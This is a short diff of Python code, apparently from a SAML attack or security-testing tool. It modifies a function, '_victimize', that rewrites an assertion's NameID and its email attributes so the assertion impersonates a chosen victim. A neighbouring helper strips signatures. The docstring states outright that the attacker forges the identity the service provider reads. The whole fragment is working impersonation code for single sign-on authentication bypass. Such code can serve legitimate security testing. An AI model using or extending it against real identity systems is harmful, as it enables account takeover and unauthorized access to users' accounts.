@@ -35,16 +35,19 @@ def _drop_sig(el: etree._Element) -> etree._Element:
 
 
 def _victimize(assertion: etree._Element, victim: str | None) -> None:
-    """Make `assertion` speak for `victim`: NameID and every attribute value equal to the old NameID."""
+    """Make `assertion` speak for `victim`: NameID, every attribute value equal to the old NameID, and
+    the email attribute (an attacker forges the identity the SP reads, also when the NameID was a
+    transient or persistent pseudonym and the SP reads Email)."""
     if not victim:
         return
     nid = assertion.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
     old = nid.text if nid is not None else None
     if nid is not None:
         nid.text = victim
-    if old:
-        for av in assertion.iter(q(SAML, "AttributeValue")):
-            if av.text == old:
+    for attr in assertion.iter(q(SAML, "Attribute")):
+        is_email = "mail" in (attr.get("Name") or "").lower() and "@" in victim
+        for av in attr.iter(q(SAML, "AttributeValue")):
+            if (old and av.text == old) or (is_email and av.text and "@" in av.text):
                 av.text = victim
 
 
